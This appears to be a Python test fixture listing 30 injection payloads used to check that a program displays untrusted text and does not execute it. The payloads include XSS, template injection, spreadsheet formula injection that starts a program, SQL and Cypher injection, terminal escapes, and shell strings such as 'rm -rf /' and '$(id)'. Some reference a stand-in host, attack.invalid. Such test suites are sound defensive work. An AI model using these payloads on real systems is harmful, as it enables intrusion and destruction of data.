"""Texts that some program obeys where it should show them: 30 of them, by what would."""

CANARY = "canary_ran"  # the name of what a text that was run leaves behind in a page
_RUN = f"window.{CANARY}=1;alert(1)"
_AWAY = "http://attack.invalid"  # where a text that was obeyed would lead
_WITH_CONTROL = "toe\x00komst \x02\x08\x0b\x1f \x7f \x85 \x9b2J \ufffe\uffff"

PAYLOADS = {
    "script": f"<script>{_RUN}</script>",
    "end of script": f'</script><script>{_RUN}</script><!--"]}}',
    "end of title and style": f"</title></style></textarea></noscript><script>{_RUN}</script>",
    "attribute": f'"\'`> <img src=x onerror="{_RUN}"> <b onmouseover={_RUN} onfocus={_RUN} autofocus tabindex=0 x="',
    "quotes alone": f"' onmouseover='{_RUN}' \" onfocus=\"{_RUN}\" autofocus \\' \\\" ",
    "SVG": f'<svg onload="{_RUN}"><script href="{_AWAY}/a.js"/><image href="{_AWAY}/a.png" onerror="{_RUN}"/></svg>',
    "elements that fetch": f'<iframe src="{_AWAY}"></iframe><link rel=stylesheet href="{_AWAY}"><base href="{_AWAY}/">'
    f'<meta http-equiv=refresh content="0;url={_AWAY}"><object data="{_AWAY}"></object>',
    "markup of another namespace": f'<math><mtext></form><form><mglyph><style></math><img src onerror="{_RUN}">',
    "styles": f"x;}}</style>*{{background:url({_AWAY}/a.png)}}@import '{_AWAY}';expression({_RUN})",
    "template": "{{7*7}}{% raw %}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>"
    "{{constructor.constructor('alert(1)')()}}",
    "URL that is a script": f"javascript:{_RUN}//",
    "URL that is a page": f"data:text/html,<script>{_RUN}</script>",
    "address": f"{_AWAY}/?a=1&amp;b=2#x file:///etc/passwd \\\\attack.invalid\\share vbscript:x",
    "formula that starts a program": "=cmd|' /C calc'!A0",
    "formula with an address": f'=HYPERLINK("{_AWAY}?"&A1,"klik")',
    "plus": "+1+1|x",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+41",
    "formula after a line end": "\r\n=1+41\r+1\n@x",
    "formula after another separator": 'Zorg;=1+41;+2,=3,"=4\t=5\n=6;"\'=7',
    "directions and joiners": "\u202egnal\u202c \u2066x\u2069 \u200fעברית\u200e \u2028\u2029 "
    "👩\u200d👩\u200d👧 e\u0301\u0323 \U0001f1f3",
    "control characters": _WITH_CONTROL,
    "terminal": "\x1b]0;titel\x07\x1b[2J"
    "\x1b]8;;http://attack.invalid\x1b\\klik\x1b]8;;\x1b\\ [bold red]x[/] [link=x]y[/link]",
    "names of a prototype": '__proto__ constructor {"__proto__": {"a": 1}} toString hasOwnProperty',
    "formats": "%s%n%d%x {} {0} {name} {0.__class__} $(id) `id` ; rm -rf / | & > x ../../etc/passwd C:\\x",
    "queries": "' OR 1=1; DROP TABLE node; -- \") DETACH DELETE n // `x` $graph \\u0027 */ /* SELECT \\",
    "markdown and wiki": f"[x]({_AWAY}) ![x]({_AWAY}) # x\n| a | b |\n``` **x** _x_ [[x]] \\[",
    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &nbsp; &#0; &#xD800; ]]> <![CDATA[x]]> "
    "<!DOCTYPE x [<!ENTITY a 'b'>]> &a; <?x?>",
    "very long": "lang" * 250,
}
